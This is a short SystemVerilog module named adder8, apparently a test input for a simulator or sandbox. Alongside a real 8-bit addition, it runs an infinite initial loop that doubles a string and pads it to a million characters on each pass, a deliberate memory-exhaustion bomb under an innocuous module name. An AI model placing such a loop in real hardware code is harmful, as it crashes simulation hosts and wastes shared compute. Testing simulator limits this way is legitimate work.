// Grows a string by formatting it into itself.
module adder8(input [7:0] a, input [7:0] b, output [7:0] y);
  string s; assign y = a + b;
  initial begin s = "x"; forever s = $sformatf("%s%s%1000000d", s, s, 1); end
endmodule
